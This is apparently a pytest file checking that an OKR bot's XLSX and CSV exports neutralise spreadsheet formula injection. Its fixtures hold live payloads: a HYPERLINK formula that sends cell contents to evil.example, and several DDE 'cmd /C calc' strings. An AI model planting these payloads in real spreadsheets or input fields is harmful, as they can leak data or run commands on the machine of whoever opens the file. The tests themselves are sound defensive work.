"""Finding 2: a title typed as a formula must not run in the spreadsheet HR opens."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlmodel import Session
from typer.testing import CliRunner

import bot.cli_export_okrs  # noqa: F401  (registers the command)
from bot.cli import app
from tests import factories

EVIL = '=HYPERLINK("https://evil.example/?x="&C2&C3,"Open bonus form")'
OTHERS = ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


@pytest.fixture
def cli(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, database_url: str) -> CliRunner:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("OKRBOT_CONFIG", raising=False)
    monkeypatch.setenv("OKRBOT_DATABASE_URL", database_url)
    return CliRunner()


@pytest.fixture
def formulas(session: Session) -> None:
    ws = factories.workspace(session, "acme")
    ana = factories.person(session, ws, "ana@example.com", "=cmd|' /C calc'!A0")
    cycle = factories.cycle(session, ws)
    objective = factories.objective(session, ws, cycle, ana, EVIL)
    for title in OTHERS:
        factories.key_result(session, objective, ana, title, start=-5, target=5, current=-2)
    session.commit()


def test_xlsx_cells_are_text_and_never_formulas(
    cli: CliRunner, formulas: None, tmp_path: Path
) -> None:
    result = cli.invoke(app, ["export", "okrs", "--cycle", "2026-Q4", "--format", "xlsx"])
    assert result.exit_code == 0, result.output
    sheet = load_workbook(tmp_path / "okrs-2026-Q4.xlsx").active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'" + EVIL in texts
    assert {"'" + title for title in OTHERS} <= texts
    assert "'=cmd|' /C calc'!A0" in texts
    # Numbers stay numbers, negative ones included.
    assert -2 in {c.value for c in cells}


def test_csv_cells_cannot_start_a_formula(cli: CliRunner, formulas: None, tmp_path: Path) -> None:
    result = cli.invoke(app, ["export", "okrs", "--cycle", "2026-Q4", "--format", "csv"])
    assert result.exit_code == 0, result.output
    with (tmp_path / "okrs-2026-Q4.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [value for row in rows for value in row.values()]
    starts = ("=", "+", "@", "\t", "\r")
    assert [c for c in cells if c.startswith(starts)] == []
    assert {row["objective"] for row in rows} == {"'" + EVIL}
    assert {row["key_result"] for row in rows} == {"'" + title for title in OTHERS}
    assert all(row["current"].startswith("-2") for row in rows)  # numbers are not escaped
